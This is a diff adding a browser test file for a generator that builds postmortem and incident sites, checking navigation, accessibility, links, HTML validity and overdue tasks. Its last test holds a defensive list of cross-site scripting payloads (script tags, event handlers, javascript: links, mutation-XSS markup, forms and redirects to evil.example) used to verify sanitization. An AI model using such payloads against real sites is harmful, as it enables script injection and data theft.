@@ -1,0 +1,258 @@
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import axe from 'axe-core';
+import { HtmlValidate } from 'html-validate';
+import { expect, test } from 'vitest';
+import { builtSite, fromDisk, openPage, ownPostmortems, withBrowser } from '../support/browser.ts';
+import { richDocuments } from '../fixtures/every-feature.ts';
+import { casebook, folderWithFirstIncident } from '../support/cli.ts';
+import { filesBelow, serve } from '../support/site.ts';
+
+withBrowser();
+
+const looks = [
+  [1280, 'light'],
+  [1280, 'dark'],
+  [390, 'light'],
+  [390, 'dark'],
+] as const;
+
+test.each(looks)('leads from page to page, from disk, at %d pixels, %s', async (width, colorScheme) => {
+  const folder = await folderWithFirstIncident();
+  await casebook(folder, ['build']);
+  const { page, troubles } = await openPage({ viewport: { width, height: 900 }, colorScheme });
+
+  await page.goto(fromDisk(folder, '_site/index.html'));
+  await page.getByRole('link', { name: /^Sign-ins failed/ }).click();
+  expect(await page.locator('h1').textContent()).toMatch(/^Sign-ins failed/);
+  expect(await page.locator('.entry').count()).toBe(10);
+  await page.getByRole('navigation').getByRole('link', { name: 'Tasks' }).click();
+  expect(await page.getByRole('row').filter({ hasText: 'overdue' }).count()).toBeGreaterThanOrEqual(3);
+  await page
+    .getByRole('link', { name: /^Sign-ins failed/ })
+    .first()
+    .click();
+
+  // Since a click waits for the page, and not for its stylesheet.
+  await page.waitForLoadState();
+  const background = await page.evaluate<string>('getComputedStyle(document.body).backgroundColor');
+  expect(background).toBe(colorScheme === 'dark' ? 'rgb(15, 19, 23)' : 'rgb(255, 255, 255)');
+  expect(troubles).toEqual([]);
+});
+
+test.each(looks)('has no barrier that axe knows, at %d pixels, %s', async (width, colorScheme) => {
+  const { site, pages } = await builtSite(richDocuments);
+  const own = await builtSite(await ownPostmortems());
+  const empty = await builtSite({});
+  const addresses = [
+    ...pages.map((file) => fromDisk(site, file)),
+    // Pages of services and tags are alike: one of each that many incidents name will do.
+    ...own.pages
+      .filter((file) => !/^(?:services|tags)\//.test(file) || file.endsWith('/kubernetes.html'))
+      .map((file) => fromDisk(own.site, file)),
+    ...empty.pages.map((file) => fromDisk(empty.site, file)),
+  ];
+  expect(addresses.length).toBeGreaterThan(12);
+  const { page } = await openPage({ viewport: { width, height: 900 }, colorScheme, bypassCSP: true });
+  const found: string[] = [];
+  for (const address of addresses) {
+    await page.goto(address);
+    await page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true");
+    await page.evaluate(axe.source);
+    const violations = await page.evaluate<{ id: string; nodes: { html: string }[] }[]>(
+      'axe.run().then((result) => result.violations)',
+    );
+    found.push(...violations.map(({ id, nodes }) => `${path.basename(address)} ${id}: ${nodes[0]?.html}`));
+    const scrolls = await page.evaluate<number>('document.documentElement.scrollWidth');
+    if (scrolls > width) found.push(`${path.basename(address)} is ${scrolls} pixels wide`);
+  }
+  expect(found).toEqual([]);
+});
+
+test.each(['served', 'from disk'])('has no dead link and no dead fragment, %s', async (way) => {
+  const { site, pages } = await builtSite(richDocuments);
+  const base = way === 'served' ? await serve(site) : fromDisk(site, '');
+  const { page, troubles } = await openPage();
+  const files = new Set((await filesBelow(site)).map((file) => new URL(file, base.replace(/\/?$/, '/')).href));
+  const ids = new Map<string, Set<string>>();
+  const links: string[] = [];
+  for (const file of pages.filter((name) => name !== '404.html')) {
+    const address = new URL(file, base.replace(/\/?$/, '/')).href;
+    await page.goto(address);
+    ids.set(address, new Set(await page.evaluate<string[]>(`[...document.querySelectorAll('[id]')].map((e) => e.id)`)));
+    const found = await page.evaluate<string[]>(`[
+      ...[...document.querySelectorAll('[href]')].map((e) => new URL(e.getAttribute('href'), location.href).href),
+      ...[...document.querySelectorAll('img, script[src]')].map((e) => e.src),
+    ]`);
+    links.push(...found.map((link) => `${link} ${file}`));
+  }
+  expect(links.length).toBeGreaterThan(100);
+  const own = links.map((link) => link.split(' ')[0] ?? '').filter((link) => link.startsWith(base));
+  const foreign = links.filter((link) => !link.startsWith(base));
+  expect(new Set(foreign.map((link) => link.split(' ')[0]))).toEqual(
+    new Set(['https://chat.example.org/a', 'https://example.org/list', 'https://git.example.org/x/issues/12']),
+  );
+  const dead = own.filter((link) => {
+    const [address = '', fragment] = link.split('#');
+    return !files.has(address) || (fragment !== undefined && !ids.get(address)?.has(decodeURIComponent(fragment)));
+  });
+  expect(dead).toEqual([]);
+  expect(troubles).toEqual([]);
+});
+
+test('is valid HTML', async () => {
+  const sites = [await builtSite(richDocuments), await builtSite({}), await builtSite(await ownPostmortems())];
+  const validator = new HtmlValidate({
+    extends: ['html-validate:recommended'],
+    rules: {
+      // A matter of taste that Prettier and browsers settle otherwise.
+      'doctype-style': 'off',
+      'void-style': 'off',
+      'no-trailing-whitespace': 'off',
+      'long-title': 'off',
+      // Tables become blocks on narrow screens, where browsers forget that they are tables.
+      'no-redundant-role': 'off',
+      // Checkboxes of one group have one name.
+      'form-dup-name': ['error', { shared: ['radio', 'checkbox'] }],
+      // Drawn marks in the middle of a line.
+      'svg-focusable': 'off',
+    },
+  });
+  const found: string[] = [];
+  for (const { site, pages } of sites) {
+    for (const file of pages) {
+      const report = await validator.validateString(await readFile(path.join(site, file), 'utf8'));
+      for (const { messages } of report.results) {
+        found.push(
+          ...messages.map(({ ruleId, message, line, column }) => `${file}:${line}:${column} ${ruleId} ${message}`),
+        );
+      }
+    }
+  }
+  expect(found).toEqual([]);
+});
+
+test('works out again in the browser what is overdue', async () => {
+  const { site } = await builtSite(richDocuments);
+  const { page } = await openPage({ timezoneId: 'UTC' });
+  const overdue = page.locator('tbody[data-urgency="overdue"] tr:not(.group)');
+  const soon = page.locator('tbody[data-urgency="soon"]');
+
+  await page.clock.setFixedTime('2024-08-20T10:00:00Z');
+  await page.goto(fromDisk(site, 'tasks.html'));
+  expect(await overdue.count()).toBe(1);
+  expect(await soon.isVisible()).toBe(true);
+  expect(await page.locator('.sum').textContent()).toContain('3 outstanding from 1 incident, 1 overdue.');
+
+  await page.clock.setFixedTime('2024-08-27T10:00:00Z');
+  await page.reload();
+  expect(await overdue.count()).toBe(2);
+  expect(await overdue.last().textContent()).toContain('2 days overdue');
+  expect(await soon.isVisible()).toBe(false);
+  expect(await page.locator('.sum').textContent()).toContain('2 overdue');
+  expect(await page.locator('.owners use.is-late').count()).toBe(2);
+  await page.goto(fromDisk(site, 'index.html'));
+  expect(await page.getByRole('row').filter({ hasText: 'The queue fills' }).textContent()).toContain('2 overdue');
+});
+
+test('reads the same without JavaScript', async () => {
+  const { site, pages } = await builtSite(richDocuments);
+  for (const file of pages) {
+    const texts: string[] = [];
+    for (const javaScriptEnabled of [true, false]) {
+      const { page } = await openPage({ javaScriptEnabled, timezoneId: 'UTC' });
+      // The day on which it was built.
+      if (javaScriptEnabled) await page.clock.setFixedTime('2024-08-20T09:12:00Z');
+      await page.goto(fromDisk(site, file));
+      // Where there is no JavaScript, neither are its controls.
+      expect((await page.locator('.needs-js:visible').count()) > 0).toBe(javaScriptEnabled && file !== '404.html');
+      await page.evaluate("for (const control of document.querySelectorAll('.needs-js')) control.remove()");
+      texts.push((await page.locator('body').innerText()).replaceAll(/\s+/g, ' '));
+    }
+    expect(texts[1]).toBe(texts[0]);
+    expect(texts[0]?.length).toBeGreaterThan(100);
+  }
+});
+
+test('has its style when a host shows it for an address below the incidents', async () => {
+  const { site } = await builtSite(richDocuments);
+  const base = await serve(site);
+  const { page } = await openPage();
+  for (const address of ['nothing.html', 'incidents/nothing.html']) {
+    const response = await page.goto(base + address);
+    expect(response?.status()).toBe(404);
+    expect(await page.locator('h1').textContent()).toBe('There is no page here');
+    const background = await page.evaluate<string>('getComputedStyle(document.querySelector("h1")).fontFamily');
+    expect(background).toContain('Charter');
+  }
+});
+
+test('runs nothing that a hostile document holds', async () => {
+  const { site } = await builtSite({ 'postmortems/2024-01-01-a.md': hostile });
+  const { page, troubles } = await openPage();
+  await page.goto(fromDisk(site, 'incidents/2024-01-01-a.html'));
+  await page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true");
+  for (const link of await page.getByRole('link', { name: 'click' }).all()) await link.click();
+  await page.waitForTimeout(200);
+  expect(troubles).toEqual([]);
+  expect(await page.evaluate('window.owned')).toBe(undefined);
+  expect(page.url()).toContain('incidents/2024-01-01-a.html');
+  const body = page.locator('main');
+  for (const tag of [
+    'script',
+    'style',
+    'iframe',
+    'object',
+    'embed',
+    'form',
+    'input',
+    'button',
+    'base',
+    'meta',
+    'link',
+  ]) {
+    expect([tag, await body.locator(tag).count()]).toEqual([tag, 0]);
+  }
+  const attributes = await page.evaluate<string[]>(
+    `[...document.querySelectorAll('main *')].flatMap((e) => e.getAttributeNames()).filter((n) => /^on|^style$/.test(n))`,
+  );
+  expect(attributes).toEqual([]);
+  expect(await page.locator('#main').count()).toBe(1);
+  expect(await page.locator('.entry').count()).toBe(2);
+  // A tag that nobody closed ends with its part of the document.
+  expect(await page.locator('footer').isVisible()).toBe(true);
+});
+
+const attack = `<script>owned = 1; alert(1)</script>
+<img src=x onerror="owned = 1"> <svg onload="owned = 1"><script>owned = 1</script></svg>
+<a href="javascript:owned=1">click</a> <a href="data:text/html,<script>owned=1</script>">click</a>
+[click](javascript:owned=1) [click](vbscript:owned=1) [click](<java	script:owned=1>)
+![](javascript:owned=1) ![x](data:image/svg+xml,<svg/onload=owned=1>)
+<iframe src="javascript:parent.owned=1"></iframe><object data="x"></object><embed src="x">
+<form action="https://evil.example"><input name="p"><button>go</button></form>
+<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">
+<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">
+<b id="main" style="position: fixed">x</b> <img name="body" id="timeline" src="https://evil.example/pixel.png">
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned=1&gt;">
+<details ontoggle="owned = 1"><summary>s</summary>d</details>
+`;
+
+const hostile = `---
+title: "<script>owned = 1</script>"
+severity: "<img src=x onerror=owned=1>"
+services: ["<svg/onload=owned=1>"]
+duration: { start: 2024-01-01T10:00Z }
+impact: "<script>owned = 1</script>"
+root_cause: { summary: "</section><script>owned = 1</script>" }
+authors: ["<img src=x onerror=owned=1>"]
+links: [{ title: click, url: "javascript:owned=1" }]
+tasks: [{ title: "<script>owned = 1</script>", ticket: "javascript:owned=1", owner: "<b>x" }]
+---
+${attack}
+## Timeline
+- 10:00 UTC ${attack.replaceAll('\n', ' ')}
+- 10:10 UTC <div><details><table><td>never closed
+
+## <script>owned = 1</script>
+<div></main></body></html><!-- never closed
+`;
